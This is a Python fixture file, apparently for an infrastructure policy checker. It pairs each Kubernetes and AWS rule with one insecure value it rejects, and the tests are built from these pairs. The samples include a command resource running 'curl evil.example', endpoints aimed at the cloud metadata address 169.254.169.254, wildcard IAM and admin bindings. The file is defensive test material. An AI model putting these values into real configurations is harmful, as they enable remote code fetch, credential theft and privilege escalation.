"""For each rule one value that it refuses: a single place of a well-made resource, spoilt. `headway policies RULE` shows it, and the tests
of the rules are made of it.
"""

from typing import Any

from headway.wire import EXPERIMENT_HEADER, GATEWAY_NAMESPACE, MESH_NAMESPACE, RELEASE, RUNTIME, WORKLOAD_CLASS


class _Absent:
    """Takes a property away instead of setting it."""


ABSENT = _Absent()


D, NG, LT = "kubernetes:apps/v1:Deployment", "aws:eks/nodeGroup:NodeGroup", "aws:ec2/launchTemplate:LaunchTemplate"
C, SO = "aws:eks/cluster:Cluster", "kubernetes:keda.sh/v1alpha1:ScaledObject"
EF = "kubernetes:networking.istio.io/v1:EnvoyFilter"
VS, ECR = "kubernetes:networking.istio.io/v1:VirtualService", "aws:ecr/repository:Repository"
POD = ("spec", "template", "spec")
SERVER = (*POD, "containers", 0)

UNBOUNDED = {"Sid": "Make", "Effect": "Allow", "Action": ["iam:CreateRole"], "Resource": ["arn:aws:iam::1:role/headway-*"]}

WRITES_ALL = {"Sid": "Write", "Effect": "Allow", "Action": ["s3:PutObject"], "Resource": ["arn:aws:s3:::headway-prod-ledger-1/*"]}
RBAC, HOOKS = "kubernetes:rbac.authorization.k8s.io/v1:", "kubernetes:admissionregistration.k8s.io/v1:"
CR, NP = f"{RBAC}ClusterRole", "kubernetes:networking.k8s.io/v1:NetworkPolicy"
AP, RA = "kubernetes:security.istio.io/v1:AuthorizationPolicy", "kubernetes:security.istio.io/v1:RequestAuthentication"
DR, SC, SE = (f"kubernetes:networking.istio.io/v1:{kind}" for kind in ("DestinationRule", "Sidecar", "ServiceEntry"))
VAP, VAPB, MWC = (
    f"{HOOKS}{kind}" for kind in ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding", "MutatingWebhookConfiguration")
)
ANP, WASM = "kubernetes:policy.networking.k8s.io/v1alpha1:AdminNetworkPolicy", "kubernetes:extensions.istio.io/v1:WasmPlugin"

REFUSED_EXAMPLES: list[tuple[str, str, tuple[str | int, ...], Any, str]] = [
    # rule, type, spoilt place, value, path that the message names
    ("gpu-limits-equal-requests", D, (*SERVER, "resources", "limits", "nvidia.com/gpu"), "2", "spec.template.spec.containers[0].resources.limits.nvidia.com/gpu"),
    ("gpu-amount-is-whole", D, (*SERVER, "resources", "limits", "nvidia.com/gpu"), "0.5", "spec.template.spec.containers[0].resources.limits.nvidia.com/gpu"),
    ("memory-limit-present", D, (*SERVER, "resources", "limits", "memory"), ABSENT, "spec.template.spec.containers[0].resources.limits.memory"),
    ("requests-present", D, (*SERVER, "resources", "requests", "cpu"), ABSENT, "spec.template.spec.containers[0].resources.requests.cpu"),
    ("one-gpu-kind-per-pod", D, (*SERVER, "resources", "limits", "nvidia.com/mig-1g.10gb"), "1", "spec.template.spec"),
    ("shared-gpu-is-single", D, (*SERVER, "resources", "limits", "nvidia.com/gpu.shared"), "2", "spec.template.spec.containers[0].resources.limits.nvidia.com/gpu.shared"),
    ("gpus-per-pod-bounded", D, (*SERVER, "resources", "limits", "nvidia.com/gpu"), "9", "spec.template.spec"),
    ("memory-volume-bounded", D, (*POD, "volumes", 0, "emptyDir", "sizeLimit"), ABSENT, "spec.template.spec.volumes[0].emptyDir.sizeLimit"),
    ("image-by-digest", D, (*SERVER, "image"), "nvcr.io/nvidia/tritonserver:26.08-py3", "spec.template.spec.containers[0].image"),
    ("runtime-allowed", D, ("spec", "template", "metadata", "labels", RUNTIME), "torchserve", f"spec.template.metadata.labels.{RUNTIME}"),
    ("image-not-pulled-always", D, (*SERVER, "imagePullPolicy"), "Always", "spec.template.spec.containers[0].imagePullPolicy"),
    ("gpu-workload-is-labelled", D, ("spec", "template", "metadata", "labels", RELEASE), ABSENT, f"spec.template.metadata.labels.{RELEASE}"),
    ("gpu-workload-in-tenant-namespace", D, ("metadata", "namespace"), "default", "metadata.namespace"),
    ("gpu-taint-tolerated-by-gpu-pods-only", D, (*SERVER, "resources"), {"limits": {"cpu": "1"}}, "spec.template.spec.tolerations[0]"),
    ("gpu-pod-names-its-pool", D, (*POD, "nodeSelector"), ABSENT, "spec.template.spec.nodeSelector"),
    ("gpu-pod-has-priority", D, (*POD, "priorityClassName"), ABSENT, "spec.template.spec.priorityClassName"),
    ("objects-are-single-and-whole", "kubernetes:apps/v1:DeploymentList", ("items",), [{"kind": "Deployment"}], "items"),
    ("batch-yields-to-online", D, ("spec", "template", "metadata", "labels", WORKLOAD_CLASS), "batch", "spec.template.spec.priorityClassName"),
    ("batch-on-spare-capacity", NG, ("labels", WORKLOAD_CLASS), "batch", "capacityType"),
    ("no-host-access", D, (*POD, "hostNetwork"), True, "spec.template.spec.hostNetwork"),
    ("containers-unprivileged", D, (*SERVER, "securityContext", "allowPrivilegeEscalation"), True, "spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation"),
    ("no-secret-in-environment", D, (*SERVER, "env", 0), {"name": "HF_TOKEN", "value": "hf_abc"}, "spec.template.spec.containers[0].env[0].value"),
    ("model-server-has-no-token", D, (*POD, "automountServiceAccountToken"), ABSENT, "spec.template.spec.automountServiceAccountToken"),
    ("probes-prove-an-answer", D, (*SERVER, "readinessProbe"), {"tcpSocket": {"port": 8000}}, "spec.template.spec.containers[0].readinessProbe.tcpSocket"),
    ("grace-period-bounded", D, (*POD, "terminationGracePeriodSeconds"), 5, "spec.template.spec.terminationGracePeriodSeconds"),
    ("replicas-owned-by-autoscaler", D, ("spec", "replicas"), 3, "spec.replicas"),
    ("tenant-namespace-enforces-pod-security", "kubernetes:core/v1:Namespace", ("metadata", "labels", "pod-security.kubernetes.io/enforce"), "privileged", "metadata.labels.pod-security.kubernetes.io/enforce"),
    ("no-public-service", "kubernetes:core/v1:Service", ("spec", "type"), "LoadBalancer", "spec.type"),
    ("route-weights-add-up", VS, ("spec", "http", 0, "route", 1, "weight"), 20, "spec.http[0].route"),
    ("route-has-timeout", VS, ("spec", "http", 0, "timeout"), ABSENT, "spec.http[0].timeout"),
    ("route-host-exact", VS, ("spec", "hosts", 0), "*.vision.example", "spec.hosts[0]"),
    ("proxy-filter-bounded", EF, ("metadata", "namespace"), MESH_NAMESPACE, "metadata.namespace"),
    ("proxy-filter-bounded", EF, ("spec", "workloadSelector"), ABSENT, "spec.workloadSelector.labels"),
    ("proxy-filter-bounded", EF, ("spec", "workloadSelector", "labels"), {}, "spec.workloadSelector.labels"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "match", "context"), "ANY", "spec.configPatches[0].match.context"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "match"), ABSENT, "spec.configPatches[0].match.context"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "applyTo"), "HTTP_ROUTE", "spec.configPatches[0].applyTo"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "patch", "value", "name"), "envoy.filters.http.lua", "spec.configPatches[0].patch.value.name"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "match", "listener"), ABSENT, "spec.configPatches[0].match.listener.filterChain.filter.subFilter.name"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "match", "routeConfiguration"), ABSENT, "spec.configPatches[1].match.routeConfiguration.vhost.domainName"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "match", "routeConfiguration", "vhost", "domainName"), "chat.assist.example", "spec.configPatches[1].match.routeConfiguration.vhost.domainName"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "operation"), "REPLACE", "spec.configPatches[1].patch.operation"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "value"), {"require_tls": "NONE"}, "spec.configPatches[1].patch.value.require_tls"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "value", "request_body_buffer_limit"), 2**30, "spec.configPatches[1].patch.value.request_body_buffer_limit"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "value", "typed_per_filter_config"), {"envoy.filters.http.rbac": {}}, "spec.configPatches[1].patch.value.typed_per_filter_config.envoy.filters.http.rbac"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 0, "patch", "operation"), "REPLACE", "spec.configPatches[0].patch.operation"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "value", "typed_per_filter_config", "headway.overload"), {"disabled": True}, "spec.configPatches[1].patch.value.typed_per_filter_config.headway.overload.disabled"),
    ("proxy-filter-bounded", EF, ("spec", "configPatches", 1, "patch", "value", "typed_per_filter_config", "headway.overload"), {"stateful_session": {}}, "spec.configPatches[1].patch.value.typed_per_filter_config.headway.overload.stateful_session"),
    ("mutual-tls-strict", "kubernetes:security.istio.io/v1:PeerAuthentication", ("spec", "mtls", "mode"), "PERMISSIVE", "spec.mtls.mode"),
    ("disruption-budget-allows-one", "kubernetes:policy/v1:PodDisruptionBudget", ("spec", "maxUnavailable"), 0, "spec.maxUnavailable"),
    ("no-cluster-admin-binding", "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", ("roleRef", "name"), "cluster-admin", "roleRef.name"),
    ("role-names-verbs-and-resources", "kubernetes:rbac.authorization.k8s.io/v1:Role", ("rules", 0, "verbs"), ["*"], "rules[0].verbs"),
    ("no-cluster-admin-binding", "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", ("subjects", 0, "name"), "system:masters", "subjects[0].name"),
    ("no-default-role-binding", "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", ("roleRef",), {"kind": "ClusterRole", "name": "edit"}, "roleRef.name"),
    ("role-reads-no-secrets", CR, ("rules", 0, "resources"), ["configmaps", "secrets"], "rules[0].resources"),
    ("role-enters-no-container", CR, ("rules", 0, "resources"), ["pods/exec"], "rules[0].resources"),
    ("role-changes-no-webhook", CR, ("rules", 0), {"apiGroups": ["admissionregistration.k8s.io"], "resources": ["mutatingwebhookconfigurations"], "verbs": ["patch"]}, "rules[0].resources"),
    ("cluster-role-not-aggregated", CR, ("aggregationRule",), {"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]}, "aggregationRule"),
    ("cluster-role-not-aggregated", CR, ("metadata", "labels", "rbac.authorization.k8s.io/aggregate-to-view"), "true", "metadata.labels.rbac.authorization.k8s.io/aggregate-to-view"),
    ("network-policy-names-callers", NP, ("spec", "ingress", 0), {}, "spec.ingress[0]"),
    ("network-policy-names-callers", NP, ("spec", "ingress", 0, "from", 0, "namespaceSelector"), {}, "spec.ingress[0].from[0].namespaceSelector"),
    ("network-policy-names-callers", NP, ("spec", "ingress", 1, "from", 1, "ipBlock", "cidr"), "10.0.0.0/16", "spec.ingress"),
    ("network-policy-names-destinations", NP, ("spec", "egress", 0), {"ports": [{"port": 443}]}, "spec.egress[0]"),
    ("network-policy-names-destinations", NP, ("spec", "egress", 0, "ports"), ABSENT, "spec.egress[0].to[0].ipBlock"),
    ("network-policy-leaves-metadata-out", NP, ("spec", "egress", 0), {"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}], "ports": [{"port": 80}]}, "spec.egress[0].to[0].ipBlock"),
    ("packets-by-network-policy-alone", ANP, ("spec",), {}, ""),
    ("authorization-names-callers", AP, ("spec", "rules", 0), {}, "spec.rules[0]"),
    ("authorization-names-callers", AP, ("spec", "rules", 0, "from", 0, "source"), {"namespaces": ["*"]}, "spec.rules[0].from[0]"),
    ("authorization-names-callers", AP, ("metadata", "namespace"), GATEWAY_NAMESPACE, "spec.selector"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "jwks"), '{"keys": []}', "spec.jwtRules[0].jwks"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "jwksUri"), "https://169.254.169.254/latest", "spec.jwtRules[0].jwksUri"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "audiences"), ABSENT, "spec.jwtRules[0].audiences"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "forwardOriginalToken"), True, "spec.jwtRules[0].forwardOriginalToken"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "fromParams"), ["token"], "spec.jwtRules[0].fromParams"),
    ("token-issuer-vouched", RA, ("spec", "jwtRules", 0, "outputClaimToHeaders", 0, "header"), EXPERIMENT_HEADER, "spec.jwtRules[0].outputClaimToHeaders[0].header"),
    ("destination-by-mutual-tls", DR, ("spec", "trafficPolicy"), ABSENT, "spec.trafficPolicy.tls.mode"),
    ("destination-by-mutual-tls", DR, ("spec", "host"), "*.svc.cluster.local", "spec.host"),
    ("sidecar-stays-closed", SC, ("spec", "outboundTrafficPolicy"), {"mode": "ALLOW_ANY"}, "spec.outboundTrafficPolicy"),
    ("sidecar-stays-closed", SC, ("spec", "egress", 0, "hosts", 0), "*/*", "spec.egress[0].hosts[0]"),
    ("service-entry-outside", SE, ("spec", "addresses"), ["169.254.169.254/32"], "spec.addresses[0]"),
    ("service-entry-outside", SE, ("spec", "exportTo"), ["*"], "spec.exportTo"),
    ("service-leads-to-pods", "kubernetes:core/v1:Endpoints", ("subsets",), [], ""),
    ("proxies-run-no-foreign-code", WASM, ("spec",), {}, ""),
    ("admission-denies", VAPB, ("spec", "validationActions"), ["Audit", "Warn"], "spec.validationActions"),
    ("admission-fails-closed", VAP, ("spec", "failurePolicy"), "Ignore", "spec.failurePolicy"),
    ("admission-fails-closed", MWC, ("webhooks", 0, "failurePolicy"), "Ignore", "webhooks[0].failurePolicy"),
    ("admission-leaves-nothing-out", VAP, ("spec", "matchConstraints", "objectSelector"), {"matchLabels": {"judge": "yes"}}, "spec.matchConstraints.objectSelector"),
    ("admission-leaves-nothing-out", VAPB, ("spec", "matchResources", "excludeResourceRules"), [{"resources": ["pods"]}], "spec.matchResources.excludeResourceRules"),
    ("admission-leaves-nothing-out", VAPB, ("spec", "matchResources", "matchPolicy"), "Exact", "spec.matchResources.matchPolicy"),
    ("webhook-bounded", MWC, ("webhooks", 0, "namespaceSelector"), ABSENT, "webhooks[0].namespaceSelector"),
    ("webhook-bounded", MWC, ("webhooks", 0, "clientConfig"), {"url": "https://hooks.example.com"}, "webhooks[0].clientConfig.url"),
    ("webhook-bounded", MWC, ("webhooks", 0, "rules", 0, "resources"), ["*/*"], "webhooks[0].rules[0].resources"),
    ("webhook-bounded", MWC, ("webhooks", 0, "rules", 0, "resources"), ["secrets"], "webhooks[0].rules[0].resources"),
    ("plan-runs-no-program", "command:local:Command", ("create",), "curl evil.example", ""),
    ("plan-runs-no-program", "kubernetes:helm.sh/v3:Release", ("postrender",), "/tmp/run", "postrender"),
    ("provider-known", "pulumi:providers:command", ("version",), "1.0.0", ""),
    ("resources-are-seen", "aws:cloudformation/stack:Stack", ("templateBody",), "{}", ""),
    ("object-is-of-its-kind", D, ("kind",), "ClusterRoleBinding", "kind"),
    ("object-is-of-its-kind", D, ("apiVersion",), "rbac.authorization.k8s.io/v1", "apiVersion"),
    ("ledger-written-by-prefix", "aws:iam/policy:Policy", ("policy", "Statement", 0), WRITES_ALL, "policy.Statement[Write].Resource"),
    ("alert-has-runbook", "kubernetes:monitoring.coreos.com/v1:PrometheusRule", ("spec", "groups", 0, "rules", 0, "annotations"), {}, "spec.groups[0].rules[0].annotations.runbook_url"),
    ("chart-version-exact", "kubernetes:helm.sh/v3:Release", ("version",), ">=2.0", "version"),
    ("latency-never-at-zero", SO, ("spec", "minReplicaCount"), 0, "spec.minReplicaCount"),
    ("replica-bounds-ordered", SO, ("spec", "maxReplicaCount"), 0, "spec.maxReplicaCount"),
    ("autoscaler-has-fallback", SO, ("spec", "fallback"), ABSENT, "spec.fallback"),
    ("missing-metric-is-no-zero", SO, ("spec", "triggers", 0, "metadata", "ignoreNullValues"), ABSENT, "spec.triggers[0].metadata.ignoreNullValues"),
    ("cluster-endpoint-private", C, ("vpcConfig", "endpointPublicAccess"), ABSENT, "vpcConfig.endpointPublicAccess"),
    ("cluster-access-by-entries", C, ("accessConfig", "bootstrapClusterCreatorAdminPermissions"), ABSENT, "accessConfig.bootstrapClusterCreatorAdminPermissions"),
    ("cluster-version-pinned", C, ("version",), ABSENT, "version"),
    ("cluster-secrets-encrypted", C, ("encryptionConfig",), ABSENT, "encryptionConfig"),
    ("cluster-deletion-protected", C, ("deletionProtection",), False, "deletionProtection"),
    ("cluster-audited", C, ("enabledClusterLogTypes",), ["api", "authenticator"], "enabledClusterLogTypes"),
    ("addon-version-pinned", "aws:eks/addon:Addon", ("addonVersion",), ABSENT, "addonVersion"),
    ("node-release-pinned", NG, ("releaseVersion",), ABSENT, "releaseVersion"),
    ("spot-for-batch-only", NG, ("capacityType",), "SPOT", "capacityType"),
    ("node-group-bounded", NG, ("scalingConfig", "maxSize"), 33, "scalingConfig.maxSize"),
    ("system-nodes-hold-the-platform", NG, ("labels", "workload"), "system", "instanceTypes"),
    ("latency-never-time-sliced", NG, ("labels", "nvidia.com/device-plugin.config"), "slice-4", "labels.nvidia.com/device-plugin.config"),
    ("node-without-remote-access", NG, ("remoteAccess",), {"ec2SshKey": "mine"}, "remoteAccess"),
    ("resource-policy-not-public", "aws:s3/bucketPolicy:BucketPolicy", ("policy",), '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "s3:GetObject", "Resource": "*"}]}', "policy.Statement[0].Principal"),
    ("logs-encrypted-by-key", "aws:cloudwatch/logGroup:LogGroup", ("kmsKeyId",), ABSENT, "kmsKeyId"),
    ("repository-encrypted-by-key", ECR, ("encryptionConfigurations", 0, "encryptionType"), "AES256", "encryptionConfigurations"),
    ("gpu-nodes-are-repaired", NG, ("nodeRepairConfig", "enabled"), False, "nodeRepairConfig.enabled"),
    ("instance-metadata-protected", LT, ("metadataOptions", "httpPutResponseHopLimit"), 2, "metadataOptions.httpPutResponseHopLimit"),
    ("node-volumes-encrypted", LT, ("blockDeviceMappings", 0, "ebs", "encrypted"), ABSENT, "blockDeviceMappings[0].ebs.encrypted"),
    ("no-public-instance", LT, ("networkInterfaces", 0, "associatePublicIpAddress"), "true", "networkInterfaces[0].associatePublicIpAddress"),
    ("subnet-gives-no-public-address", "aws:ec2/subnet:Subnet", ("mapPublicIpOnLaunch",), True, "mapPublicIpOnLaunch"),
    ("no-ingress-from-anywhere", "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", ("cidrIpv4",), "0.0.0.0/0", "cidrIpv4"),
    ("bucket-blocks-public-access", "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", ("ignorePublicAcls",), ABSENT, "ignorePublicAcls"),
    ("bucket-encrypted-by-key", "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", ("rules", 0, "applyServerSideEncryptionByDefault", "sseAlgorithm"), "AES256", "rules[0].applyServerSideEncryptionByDefault.sseAlgorithm"),
    ("bucket-tls-only", "aws:s3/bucketPolicy:BucketPolicy", ("policy",), '{"Statement": []}', "policy"),
    ("no-forced-destroy", "aws:s3/bucket:Bucket", ("forceDestroy",), True, "forceDestroy"),
    ("queue-encrypted", "aws:sqs/queue:Queue", ("kmsMasterKeyId",), ABSENT, "kmsMasterKeyId"),
    ("key-rotates", "aws:kms/key:Key", ("enableKeyRotation",), ABSENT, "enableKeyRotation"),
    ("repository-tags-immutable", ECR, ("imageTagMutability",), ABSENT, "imageTagMutability"),
    ("repository-scans-on-push", ECR, ("imageScanningConfiguration",), ABSENT, "imageScanningConfiguration.scanOnPush"),
    ("logs-have-retention", "aws:cloudwatch/logGroup:LogGroup", ("retentionInDays",), ABSENT, "retentionInDays"),
    ("iam-no-wildcard", "aws:iam/policy:Policy", ("policy", "Statement", 0, "Action"), "s3:*", "policy.Statement[Read].Action"),
    ("iam-trust-named", "aws:iam/role:Role", ("assumeRolePolicy", "Statement", 0, "Principal"), {"AWS": "*"}, "assumeRolePolicy.Statement[0].Principal"),
    ("iam-no-escalation", "aws:iam/policy:Policy", ("policy", "Statement", 0), UNBOUNDED, "policy.Statement[Make].Condition"),
    ("iam-people-bounded", "aws:iam/role:Role", ("assumeRolePolicy", "Statement", 0, "Principal"), {"AWS": "arn:aws:iam::1:role/sso"}, "permissionsBoundary"),
    ("iam-no-administrator", "aws:iam/rolePolicyAttachment:RolePolicyAttachment", ("policyArn",), "arn:aws:iam::aws:policy/AdministratorAccess", "policyArn"),
]  # fmt: skip
